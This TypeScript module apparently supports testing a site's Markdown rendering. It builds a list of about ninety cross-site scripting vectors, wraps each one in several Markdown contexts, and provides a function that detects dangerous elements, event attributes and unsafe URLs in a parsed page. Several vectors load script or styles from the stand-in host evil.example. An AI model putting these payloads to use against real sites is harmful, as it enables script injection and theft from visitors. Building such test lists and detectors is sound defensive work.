/** What runs where a page takes it for markup, collected from OWASP's filter evasion list, PortSwigger's list and reports on sanitisers. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\u000d\u000a>alert(1)</script\u000a>',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type=module>import("//evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" title=">">',
  '<img srcset="x" onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example" target=_blank ping=//evil.example>x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<a href=x onclick=alert(1)//>x</a>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onconnected=alert(1)></custom-element>',
  '<p id=__docusaurus class=theme name=body>x</p>',
  '<div id=reference-data>{}</div>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '`onmouseover=alert(1)',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{alert(1)}',
  'export const x = alert(1)',
  'import x from "//evil.example"',
  '<Tabs onClick={() => alert(1)}>x</Tabs>',
  '__proto__',
  'constructor',
] as const;

/** The ways of Markdown by which a text reaches an attribute or an element of its own. */
const WAYS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `A word ${text} and more`,
  (text) => `[${text}](${text})`,
  (text) => `![${text}](${text} "${text}")`,
  (text) => `[x]: ${text}\n\n[x] and ${text}`,
  (text) => `> [!NOTE] ${text}\n> ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `# ${text}\n\n- ${text}\n  1. ${text}`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `<div>\n\n${text}\n\n</div>`,
];

/** Every vector by every way: more than ROBUSTNESS's C1 asks for. */
export const HOSTILE_STRINGS: readonly string[] = WAYS.flatMap((way) => VECTORS.map((vector) => way(vector)));

/** Those that are no Markdown: for names, titles and values. */
export const HOSTILE_NAMES: readonly string[] = VECTORS;

const RUNNING =
  /^(?:script|iframe|frame|object|embed|applet|style|link|meta|base|form|svg|math|template|noscript|portal|xmp|plaintext)$/i;
const ADDRESSES =
  /^(?:href|src|srcset|action|formaction|data|poster|ping|background|cite|longdesc|xlink:href|manifest)$/i;
// eslint-disable-next-line no-control-regex -- a browser leaves these out before it looks at the scheme (URL §4.4)
const IGNORED = /[\u0000-\u0020]/g;
const SAFE_ADDRESS = /^(?:https?:|mailto:|[/#?.]|[^:]*$)/i;

interface Tree {
  querySelectorAll(selector: '*'): Iterable<{
    readonly tagName: string;
    readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
  }>;
}

/** What in a parsed page could run or lead elsewhere. `isOurs` says which elements the page itself brings along. */
export function dangersIn(tree: Tree, isOurs: (tagName: string) => boolean = () => false): string[] {
  const found: string[] = [];
  for (const { tagName, attributes } of tree.querySelectorAll('*')) {
    if (RUNNING.test(tagName) && !isOurs(tagName.toLowerCase())) found.push(`<${tagName}>`);
    for (const { name, value } of attributes) {
      if (/^on/i.test(name) || /^srcdoc$/i.test(name)) found.push(`${tagName} ${name}`);
      else if (ADDRESSES.test(name) && !SAFE_ADDRESS.test(value.replace(IGNORED, '')))
        found.push(`${tagName} ${name}=${value}`);
    }
  }
  return found;
}
